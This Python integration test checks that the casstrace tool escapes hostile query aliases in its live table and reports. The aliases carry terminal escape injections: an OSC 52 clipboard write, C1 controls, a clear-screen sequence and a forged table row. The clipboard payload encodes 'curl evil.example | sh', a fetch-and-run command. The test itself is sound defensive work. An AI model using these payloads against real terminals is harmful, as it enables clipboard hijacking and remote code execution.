"""Text any client of a node can send, shown by `watch` on a real node: a quoted alias holding OSC 52
(which writes the terminal's clipboard), C1 controls, the one-byte CSI and a newline that would forge a
row of the Statements table. The live --top table (on a terminal), the text report and the Markdown
report show them escaped (casstrace.terminal), never raw; the JSON report keeps the statements whole."""

import json
import os
import pty
import re
import subprocess
import threading

import pytest

from casstrace.sandbox.workload import Load, Workload
from casstrace_cli import CASSTRACE
from watching import PREVIOUS, STARTED, nodetool, watch_command  # noqa: F401 (fixtures)

pytestmark = pytest.mark.integration

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
C1 = "\x9d0;pwned\x9c\x9b2J"
FORGED = "x\n  1  SELECT * FROM forged\r"
RAW = [b"\x1b]", b"\x07", b"\xc2\x9b", b"\xc2\x9d", b"\x9b", b"\r"]
WATCH_S = 10


def _own_colours_removed(shown: bytes) -> bytes:
    """What a watch wrote, without its own sequences (the live table's redraw, the report's colours)
    and the carriage returns a terminal puts before each newline."""
    return re.sub(rb"\x1b\[[0-9;]*[A-Za-z]", b"", shown).replace(b"\r\n", b"\n")


def _drain(descriptor: int, into: bytearray, started: threading.Event) -> None:
    while True:
        try:
            chunk = os.read(descriptor, 65536)
        except OSError:  # EIO: the watch closed the terminal
            break
        if not chunk:
            break
        into.extend(chunk)
        if STARTED.encode() in into:
            started.set()
    started.set()


@pytest.fixture(scope="module")
def hostile_watch(sandbox, demo_tables, nodetool, tmp_path_factory):
    """One watch of the hostile aliases, its text report and its live --top table drawn on a terminal:
    (the trace, the report it printed, what the terminal showed). One statement holds two aliases at
    once, for the JSON report to keep whole."""
    nodetool.set_trace_probability(PREVIOUS)
    spec = demo_tables.spec
    aliases = [OSC52, C1, FORGED, f"{OSC52}{C1}"]
    loads = [
        Load(
            f"hostile{number}",
            f'SELECT c0 AS "{alias}" FROM {spec.keyspace}.{spec.table} WHERE stream_id = ?',
            2,
            (spec.stream_id,),
        )
        for number, alias in enumerate(aliases)
    ]
    out = tmp_path_factory.mktemp("hostile") / "hostile.trace"
    terminal, terminal_end = pty.openpty()  # stderr on a terminal: the live --top table is drawn
    live = bytearray()
    command = watch_command(sandbox, out, "--duration", str(WATCH_S), "--format", "text", "--sample", "1")
    with sandbox.connect() as session:
        watcher = subprocess.Popen(
            [*command, "--color", "--top", "20"], stdout=subprocess.PIPE, stderr=terminal_end, cwd=out.parent
        )
        os.close(terminal_end)
        started = threading.Event()
        reader = threading.Thread(target=_drain, args=(terminal, live, started), daemon=True)
        reader.start()
        assert started.wait(timeout=300)
        workload = Workload(session, loads, WATCH_S).start()
        stdout, _ = watcher.communicate(timeout=300)
        workload.join()
        reader.join(timeout=10)
    os.close(terminal)
    assert watcher.returncode == 0, live.decode(errors="replace")
    assert all(load.executions > 0 and load.errors == 0 for load in loads)
    return out, stdout, bytes(live)


def _report(trace, format_: str) -> bytes:
    """`casstrace report` of the trace in one format, as a user attaches it to a ticket."""
    done = subprocess.run([*CASSTRACE, "report", str(trace), "--format", format_], capture_output=True)
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.mark.parametrize("format_", ["text", "md"])
def test_a_watch_shows_hostile_aliases_escaped(hostile_watch, format_):
    trace, printed, live = hostile_watch
    stdout = printed if format_ == "text" else _report(trace, format_)
    for shown in (stdout, live):
        plain = _own_colours_removed(shown)
        assert not [raw for raw in RAW if raw in plain], shown
    # the statements are there, escaped, one row each: no forged row
    assert stdout.count(b"\\x1b]52;c;") >= 1 and b"\\x9b2J" in stdout
    assert not any(line.lstrip().startswith(b"1  SELECT * FROM forged") for line in stdout.splitlines())
    assert b"\\x1b]52;c;" in live  # the live table showed them too
    assert not any(line.lstrip().startswith(b"1  SELECT * FROM forged") for line in live.splitlines())


def test_a_watch_json_report_keeps_hostile_aliases_whole(hostile_watch):
    shown = _report(hostile_watch[0], "json").decode()
    assert not [raw for raw in ("\x1b]", "\x07", "\x9b", "\x9d") if raw in shown]
    statements = [s["query"] for s in json.loads(shown)["statements"]]
    assert any(OSC52 in statement and C1 in statement for statement in statements), statements
